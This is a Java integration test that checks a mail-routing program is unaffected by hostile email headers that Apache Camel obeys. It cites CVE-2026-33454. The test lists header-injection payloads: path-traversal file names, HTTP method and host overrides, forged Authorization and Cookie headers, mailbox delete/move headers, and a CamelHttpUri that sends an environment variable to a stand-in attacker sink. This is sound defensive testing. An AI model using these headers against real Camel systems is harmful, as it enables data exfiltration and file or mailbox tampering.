package io.mailroutes.proof;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.mailroutes.testing.NeedsDovecot;
import io.mailroutes.testing.RawImap;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/** A stranger's mail with the headers that Camel's components obey (CVE-2026-33454) changes nothing. */
@NeedsDovecot
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileHeadersIT {
    private static final List<String> NAMES = List.of(
            "CamelFileName: evil.txt",
            "CamelFileName: ../../evil.txt",
            "CamelOverruleFileName: evil.txt",
            "CamelHttpMethod: DELETE",
            "CamelHttpPath: ../../evil",
            "CamelHttpQuery: evil=1",
            "CamelHttpRawQuery: evil=2",
            "CamelHttpHost: evil.example",
            "CamelJmsDestinationName: evil.queue",
            "CamelSplitIndex: 7",
            "CamelBeanMethodName: evil",
            "CamelToEndpoint: file:evil",
            "CamelRedeliveryDelay: 100000",
            "org.apache.camel.x: evil",
            "Authorization: Bearer evil",
            "Cookie: evil=1",
            "X-Forwarded-For: 203.0.113.7",
            "breadcrumbId: evil",
            "mail.smtp.host: evil.example",
            "delete: true",
            "moveTo: Evil",
            "copyTo: Evil",
            "CamelMailDelete: true",
            "CamelMailMoveTo: Evil",
            "CamelMailCopyTo: Evil",
            "MailKey: evil/INBOX/1/1",
            "MailFolder: Evil",
            "MailParseError: evil");

    private MailWorld world;

    @BeforeAll
    void start() {
        world = new MailWorld();
    }

    @AfterAll
    void stop() {
        world.close();
    }

    @Test
    void noHeaderOfAMailMovesAFileARequestOrAMail(@TempDir Path directory) throws IOException {
        String user = "hostile@example.com";
        try (HttpSink sink = new HttpSink();
                HttpSink evil = new HttpSink()) {
            List<String> lines = lines(evil);
            world.dovecot().deliverMany(user, MailWorld.INBOX, lines.stream().map(HostileHeadersIT::hostile));
            Program program = world.program(directory, user)
                    .route(Routes.mailbox()
                            + "      - to: 'file:OUT?fileName=${headerAs(MailUid, String)}.txt'\n"
                            + Routes.post(sink.address()));
            RunningProgram run = program.once();

            assertThat(run.exitCode()).as(run.words()).isZero();
            assertThat(program.delivered())
                    .containsExactlyInAnyOrderElementsOf(IntStream.rangeClosed(1, lines.size())
                            .mapToObj(uid -> Path.of(uid + ".txt"))
                            .toList());
            assertThat(evil.requests()).isEmpty();
            assertRequestsAreOurs(sink, lines.size());
            assertMailboxIsAsItWas(user, lines.size());
        }
    }

    private static List<String> lines(HttpSink evil) {
        String uri = "CamelHttpUri: " + evil.address() + "?leak={{env:PATH}}";
        return List.of(NAMES, List.of(uri)).stream()
                .flatMap(List::stream)
                .flatMap(line -> inAllCases(line).stream())
                .toList();
    }

    private static Set<String> inAllCases(String line) {
        int colon = line.indexOf(':');
        String name = line.substring(0, colon);
        String rest = line.substring(colon);
        return new TreeSet<>(List.of(
                line, name.toUpperCase(Locale.ROOT) + rest, name.toLowerCase(Locale.ROOT) + rest, mixed(name) + rest));
    }

    /** CaMeL. */
    private static String mixed(String name) {
        StringBuilder mixed = new StringBuilder();
        for (int i = 0; i < name.length(); i++) {
            String letter = name.substring(i, i + 1);
            mixed.append(i % 2 == 0 ? letter.toUpperCase(Locale.ROOT) : letter.toLowerCase(Locale.ROOT));
        }
        return mixed.toString();
    }

    private static byte[] hostile(String line) {
        return (line + "\r\n" + new String(MailWorld.mail("hello", "text"), UTF_8)).getBytes(UTF_8);
    }

    private static void assertRequestsAreOurs(HttpSink sink, int mails) {
        assertThat(sink.requests()).hasSize(mails).allSatisfy(request -> {
            assertThat(request.method()).isEqualTo("POST");
            assertThat(request.uri()).hasToString("/in");
            assertThat(request.headers()).doesNotContainKeys("Authorization", "Cookie", "X-forwarded-for");
            assertThat(request.headers().toString().toLowerCase(Locale.ROOT)).doesNotContain("evil");
            assertThat(request.headers().getFirst("Mailfolder")).isIn("INBOX", null);
        });
    }

    private void assertMailboxIsAsItWas(String user, int mails) throws IOException {
        assertThat(world.inbox(user).values()).hasSize(mails).allMatch(mail -> mail.flags()
                .equals(Set.of("\\Seen")));
        try (RawImap imap = world.dovecot().connect(user)) {
            assertThat(imap.command("LIST \"\" \"*\"").stream().map(RawImap.Response::text))
                    .noneMatch(line -> line.toLowerCase(Locale.ROOT).contains("evil"));
        }
    }
}
